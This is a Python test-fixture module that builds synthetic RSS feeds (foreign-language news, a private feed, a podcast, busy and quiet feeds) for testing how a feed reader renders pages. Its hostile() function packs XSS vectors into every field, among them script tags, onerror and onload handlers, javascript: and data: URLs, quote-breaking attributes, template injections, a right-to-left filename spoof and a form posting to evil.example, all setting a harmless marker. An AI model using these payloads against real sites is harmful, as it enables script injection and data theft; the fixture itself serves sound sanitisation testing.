"""Feeds of outlets beside the sample's, for looking at pages: in other scripts, hostile, private, busy, failing.

Each function gives one document as it stood on a day; what a day brought stays in it for the next days.
"""

from __future__ import annotations

from datetime import date, datetime, timedelta
from email.utils import format_datetime
from html import escape

SECRET = "Quarzwiesel"
"""A word that only items of the private feed hold."""

ATTACK = "window.attacked=1"
"""What every hostile script would do."""

PODCAST_MINUTES = 47


def _rss(title: str, link: str, language: str, items: list[str]) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'
        ' xmlns:media="http://search.yahoo.com/mrss/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>{escape(title)}</title>'
        f"<link>{escape(link)}</link><language>{language}</language><description>.</description>"
        f"{''.join(items)}</channel></rss>"
    ).encode()


def _item(title: str, link: str, at: datetime, summary: str = "", more: str = "") -> str:
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<guid isPermaLink='false'>{escape(link)}</guid>"
        f"<pubDate>{format_datetime(at)}</pubDate><description>{escape(summary)}</description>{more}</item>"
    )


def _told(days: list[datetime], language: str, host: str, title: str, *lines: tuple[str, str]) -> bytes:
    """Lines in turn, two a day, newest first."""
    items = []
    for number, day in enumerate(days):
        for turn in range(2):
            headline, summary = lines[(2 * number + turn) % len(lines)]
            at = day - timedelta(hours=3 + turn)
            items.append(_item(headline, f"https://{host}/{day:%Y%m%d}-{turn}", at, summary))
    return _rss(title, f"https://{host}/", language, items[::-1])


def arabic(days: list[datetime]) -> bytes:
    return _told(
        days, "ar", "www.sahifat-almina.example", "صحيفة الميناء",
        ("مجلس المدينة يوافق على جسر جديد", "وافق المجلس مساء الأربعاء على بناء جسر يحل محل العبّارة القديمة."),
        ("افتتاح مكتبة عامة في الحي القديم", "تفتح المكتبة أبوابها يوم الأحد وتضم عشرين ألف كتاب."),
        ("ارتفاع أسعار القمح بعد موسم جاف", "قال مزارعون إن المحصول أقل من العام الماضي بنحو الثلث (بيان OECD)."),
        ("قطار ليلي جديد يربط العاصمة بالساحل", "ينطلق القطار ثلاث مرات في الأسبوع ابتداءً من الربيع المقبل."),
    )  # fmt: skip


def japanese(days: list[datetime]) -> bytes:
    return _told(
        days, "ja", "www.minato-shimpo.example", "港新報",
        ("首相、北京で会談へ 来月にも", "首相は来月、北京を訪れ、貿易と航空路線について会談する見通しとなった。"),
        ("兵器の輸出規則を見直す案、国会に提出", "政府は兵器の輸出に関する規則を見直す法案を国会に提出した。"),
        ("図書館の夜間開館、今秋から", "市立図書館は今秋から週二回、夜九時まで開館する。"),
        ("大雨で鉄道が一部運休", "明け方からの大雨により、沿岸の鉄道は一部の区間で運転を見合わせた。"),
    )  # fmt: skip


def private(days: list[datetime]) -> bytes:
    return _told(
        days, "en", "intern.quarz.example", f"{SECRET} internal notes",
        (f"{SECRET}: payroll moves to the new house", f"The {SECRET} ledger is closed on Friday."),
        (f"{SECRET} canteen gets a second oven", f"Bread from {SECRET} flour, said the cook."),
        (f"Minutes of the {SECRET} board", "Three points, one of them open."),
        (f"{SECRET} garden needs volunteers", "Bring gloves."),
    )  # fmt: skip


def podcast(days: list[datetime]) -> bytes:
    items = [
        _item(
            f"Episode {day:%-d.%-m.}: how {what} became a craft",
            f"https://www.slowradio.example/episodes/{day:%Y%m%d}",
            day - timedelta(hours=5),
            "A conversation in two parts, recorded in the workshop, with questions that listeners sent by letter.",
            f'<enclosure url="https://media.slowradio.example/{day:%Y%m%d}.mp3" type="audio/mpeg" length="45000000"/>'
            f"<itunes:duration>00:{PODCAST_MINUTES}:10</itunes:duration>"
            f'<media:thumbnail url="https://media.slowradio.example/{day:%Y%m%d}.jpg" width="640" height="360"/>',
        )
        for day, what in zip(days, ("bell casting", "net mending", "paper marbling", "thatching"), strict=False)
    ]
    return _rss("Slow Radio", "https://www.slowradio.example/", "en", items[::-1])


_MATTERS = (
    "harbour dredging", "rye prices", "tram depots", "lighthouse keepers", "night schools", "bee pastures",
    "river ferries", "roof tiles", "chess clubs", "salt marshes", "peat bogs", "bicycle bridges", "choir festivals",
    "glass furnaces", "railway sidings", "orchard frost", "museum cellars", "stone quarries", "weather balloons",
    "linen mills", "seed vaults", "clock towers", "canal locks", "beech forests", "public baths", "sledge dogs",
    "ice rinks", "letter carriers", "windmill sails", "herring barrels", "copper roofs", "village halls",
    "puppet theatres", "allotment gardens", "sewing patterns", "brick kilns", "street pianos", "ferry timetables",
    "swallow nests", "cider presses", "tide gauges", "night buses",
)  # fmt: skip
_TURNS = (
    "Council weighs a levy on {} after a close vote",
    "Why {} matter more than maps suggest",
    "Auditors find gaps in the accounts of {}",
    "A short history of {}, told in five letters",
    "Apprentices wanted: {} run short of hands",
    "Insurers walk away from {}",
    "Schoolchildren draw {} for a calendar",
    "Minister opens talks over {}",
    "Photographs of {} win a prize",
    "Price of {} doubles within a decade",
    "Volunteers rescue {} from the scrapheap",
)
_SENTENCES = (
    "The vote fell shortly before midnight.",
    "An engineer walked the whole length of it, twice, with a notebook.",
    "Missing receipts go back to spring.",
    "Her grandfather kept copies in a biscuit tin.",
    "Wages rose, applications did not.",
    "Premiums had climbed each winter.",
    "Crayons ran out by Thursday.",
    "Delegates will sit down again next month.",
    "The jury praised patience and cold light.",
    "Nobody expected buyers from overseas.",
    "Rust came off with vinegar and wire brushes.",
    "Residents wrote four hundred objections.",
    "A model stands in the foyer.",
)


def busy(name: str, host: str, days: list[datetime], *, turn: int) -> bytes:
    """A feed of many items on matters that it shares with no other, so that a cap folds some of them."""
    items = []
    for day in days[-2:]:
        for number, matter in enumerate(_MATTERS[turn::3]):
            form = _TURNS[(turn * 4 + day.day + number) % len(_TURNS)]
            headline = form.format(matter)
            text = _SENTENCES[(turn * 5 + day.day + number * 2) % len(_SENTENCES)]
            at = day - timedelta(minutes=20 * number + 30)
            items.append(_item(headline[0].upper() + headline[1:], f"https://{host}/{day:%m%d}/{number}", at, text))
    return _rss(name, f"https://{host}/", "en", items[::-1])


def hostile(days: list[datetime]) -> bytes:
    """Attempts in every field of a feed and its items; links go nowhere that exists."""
    script = f"<script>{ATTACK}</script>"
    image = f'<img src=x onerror="{ATTACK}">'
    host = "https://www.hostile.example"
    items = []
    for day in days:
        at = day - timedelta(hours=2)
        for number, (title, link, summary) in enumerate(
            (
                (f"{script}Script in a title {day:%-d}", f"{host}/{day:%m%d}/1", f"{script}{image}Text of the first."),
                (
                    f"{image} Image in a title {day:%-d}",
                    f"javascript:{ATTACK}",
                    f'<a href="javascript:{ATTACK}">here</a>',
                ),
                (
                    f'"><svg onload={ATTACK}> quotes {day:%-d}',
                    f'{host}/"onmouseover="{ATTACK}',
                    f"<svg onload={ATTACK}></svg>q",
                ),
                (
                    f"\u202egnp.exe reversed\u202c {day:%-d} {'x' * 300}",
                    f"{host}/{day:%m%d}/4",
                    "</p></main></body>" * 3 + "closing",
                ),
                (
                    "{{ 7 * 7 }} [link](javascript:1) *stars* _under_ `code`",
                    f"data:text/html,{script}",
                    "{% include 'x' %}",
                ),
                (
                    "</title><style>*{display:none}</style>",
                    f"{host}/{day:%m%d}/6",
                    f'<iframe srcdoc="{escape(script)}"></iframe>',
                ),
            )
        ):
            more = (
                f"<dc:creator>{escape(script)}</dc:creator><category>{escape(image)}</category>"
                "<content:encoded>"
                f"{escape(summary + image + '<form action=https://evil.example><input name=a></form>')}"
                "</content:encoded>"
                f'<enclosure url="javascript:{ATTACK}" type="{escape(script)}" length="-1"/>'
                f'<media:thumbnail url="javascript:{ATTACK}" width="9" height="{escape(image, quote=True)}"/>'
            )
            items.append(_item(title, link, at - timedelta(minutes=number), summary, more))
    return _rss(f"{script}Hostile {image}", f"javascript:{ATTACK}", "en", items[::-1])


def quiet(first: date) -> bytes:
    """Nothing since its first day."""
    at = datetime.combine(first, datetime.min.time()).astimezone()
    old = _item("The last chronicle", "https://www.chronicle-of-old.example/last", at, "And then nothing.")
    return _rss("Chronicle of Old", "https://www.chronicle-of-old.example/", "en", [old])
